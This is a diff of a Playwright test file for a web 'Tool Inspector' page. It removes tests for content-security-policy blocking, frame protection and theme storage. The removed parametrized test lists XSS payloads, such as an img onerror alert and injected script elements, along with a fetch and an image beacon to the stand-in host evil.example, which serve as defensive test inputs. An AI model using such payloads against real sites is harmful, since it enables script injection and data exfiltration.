@@ -419,38 +419,6 @@ def test_hostile_data_is_text(page: Page, served: Serve) -> None:
     assert page.locator("main img, main script, main a, nav img, nav script, nav a").count() == 0
 
 
-@pytest.mark.parametrize(
-    "attack",
-    [
-        "const s = document.createElement('script'); s.textContent = 'document.title = 1'; document.body.append(s)",
-        "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
-        "document.body.setAttribute('onclick', 'alert(1)'); document.body.click()",
-        "fetch('https://evil.example/steal')",
-        "const i = new Image(); i.src = 'https://evil.example/x.png'",
-        "document.body.append(Object.assign(document.createElement('iframe'), {src: '/inspector'}))",
-    ],
-)
-def test_policy_blocks_injected_scripts(page: Page, served: Serve, attack: str) -> None:
-    open_tool(page, served(), "test.hostile")
-    page.evaluate(
-        "document.addEventListener('securitypolicyviolation', (e) => { window.stopped = e.effectiveDirective; })"
-    )
-    page.evaluate(f"try {{ {attack} }} catch (error) {{ window.stopped ||= String(error); }} null")
-    page.wait_for_function("window.stopped")
-    page.problems.clear()  # type: ignore[attr-defined]  # Chromium logs each violation
-    assert "pwned" not in page.title()
-
-
-def test_page_cannot_be_framed(page: Page, served: Serve) -> None:
-    url = served()
-    page.goto(url.replace("/inspector", "/health"))
-    page.set_content(f'<iframe src="{url}"></iframe>')
-    frame = page.frames[-1]
-    frame.wait_for_load_state()
-    assert "Tool Inspector" not in frame.content()
-    page.problems.clear()  # type: ignore[attr-defined]  # Chromium logs the violation
-
-
 # --- live updates, keys -----------------------------------------------------------------------------------------------
 
 
@@ -612,14 +580,3 @@ def test_contrast_and_reflow(page: Page, served: Serve, scheme: Any, width: int)
         page.get_by_role("button", name="Back to the list of tools").click()
         expect(page.locator("#search")).to_be_focused()
         assert page.evaluate(CONTRAST) == []
-
-
-def test_theme_is_stored(page: Page, served: Serve) -> None:
-    page.goto(served())
-    button = page.locator("#theme")
-    for name, ground in (("light", "rgb(244, 246, 248)"), ("dark", "rgb(15, 21, 27)")):
-        button.click()
-        expect(button).to_have_text(f"Theme: {name}")
-        expect(page.locator("body")).to_have_css("background-color", ground)
-    page.reload()
-    expect(button).to_have_text("Theme: dark")
